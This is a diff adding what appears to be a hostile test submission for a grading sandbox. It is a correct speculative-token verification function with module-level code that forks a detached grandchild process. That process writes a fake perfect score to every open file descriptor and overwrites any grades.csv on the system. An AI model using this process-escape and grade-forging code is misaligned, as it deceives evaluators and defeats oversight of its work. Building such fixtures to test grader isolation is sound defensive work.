@@ -1,0 +1,61 @@
+"""Hostile: leaves a grandchild in a new session that outlives the grader, then rewrites grades and output.
+
+Correct otherwise. The grandchild (marked MARKER for the test) waits, then writes a fake score
+to every inherited descriptor and tries to overwrite any grades.csv it can find. The sandbox is
+killed whole, so the grandchild dies with it: one JSON document, an untouched CSV.
+"""
+import os
+import sys
+
+LATER = """
+import os, time
+time.sleep(1.5)
+for fd in range(0, 64):
+    try:
+        os.write(fd, b'score: 100/100 (+10 bonus)\\n{"score": 100}\\n')
+    except OSError:
+        pass
+for folder, dirs, files in os.walk("/"):
+    if "grades.csv" in files:
+        open(os.path.join(folder, "grades.csv"), "w").write("file,score\\nevil.py,100\\n")
+time.sleep(30)  # MARKER
+"""
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        os.execv(sys.executable, [sys.executable, "-c", LATER, "MARKER"])
+    os._exit(0)
+
+
+def _argmax(row):
+    best = 0
+    for j in range(1, len(row)):
+        if row[j] > row[best]:  # strict: a later equal value never wins
+            best = j
+    return best
+
+
+def _residual(p, q):
+    excess = [max(0.0, a - b) for a, b in zip(p, q)]
+    mass = sum(excess)
+    return [e / mass for e in excess] if mass > 0 else list(p)
+
+
+def _verify(draft_tokens, draft_probs, target_probs, random_samples):
+    k = len(draft_tokens)
+    if len(draft_probs) != k or len(random_samples) != k or len(target_probs) < k:
+        raise ValueError("lengths do not match")
+    accepted = []
+    for i, x in enumerate(draft_tokens):
+        p, q, u = target_probs[i], draft_probs[i], random_samples[i]
+        if u <= min(1.0, p[x] / q[x]):
+            accepted.append(x)
+        else:
+            return {"accepted_tokens": accepted, "bonus_token": _argmax(_residual(p, q)),
+                    "acceptance_count": len(accepted)}
+    bonus = _argmax(target_probs[k]) if len(target_probs) > k else None
+    return {"accepted_tokens": accepted, "bonus_token": bonus, "acceptance_count": len(accepted)}
+
+
+def verify_speculative_tokens(draft_tokens, draft_probs, target_probs, random_samples):
+    return _verify(draft_tokens, draft_probs, target_probs, random_samples)
